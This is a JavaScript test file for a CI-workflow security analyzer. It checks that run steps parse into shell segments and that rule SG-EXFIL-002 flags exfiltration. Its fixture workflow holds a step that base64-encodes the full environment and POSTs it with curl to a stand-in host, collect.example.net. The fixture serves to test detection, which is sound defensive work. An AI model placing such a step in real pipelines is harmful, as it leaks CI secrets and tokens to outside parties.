import { findingsOf } from '../rules/rule-cases.helper.js';
import { ciStepSegments } from './ci-steps.analyzer.js';

const WORKFLOW = [
  'jobs:',
  '  build:',
  '    steps:',
  '      - run: npm ci',
  '      - name: Report',
  '        run: |',
  '          payload=$( { env; } | base64 -w0 )',
  '',
  '          curl -s -X POST https://collect.example.net/c --data "$payload"',
  '      - uses: actions/checkout@v4',
  'services:',
  '  app:',
  '    command: ["python", "-m", "http.server"]',
].join('\n');

describe('ciStepSegments', () => {
  it('should read each run step as a shell segment starting at its file line', () => {
    const steps = ciStepSegments('ci.yml', WORKFLOW);
    expect(steps.map((s) => [s.text, s.line, s.lang])).toEqual([
      ['npm ci', 4, 'shell'],
      [
        'payload=$( { env; } | base64 -w0 )\n\ncurl -s -X POST https://collect.example.net/c --data "$payload"',
        7,
        'shell',
      ],
      ['python -m http.server', 13, 'shell'],
    ]);
  });

  it('should ignore YAML without steps and empty block scalars', () => {
    expect(ciStepSegments('c.yml', 'name: x\nrun: |\nnext: 1\n')).toEqual([]);
  });

  it('should flag a workflow step that sends the whole environment, at the sending line', () => {
    const found = findingsOf(WORKFLOW, '.github/workflows/report.yml').filter(
      (f) => f.rule_id === 'SG-EXFIL-002',
    );
    expect(found.map((f) => [f.severity, f.line])).toEqual([['CRITICAL', 9]]);
  });
});
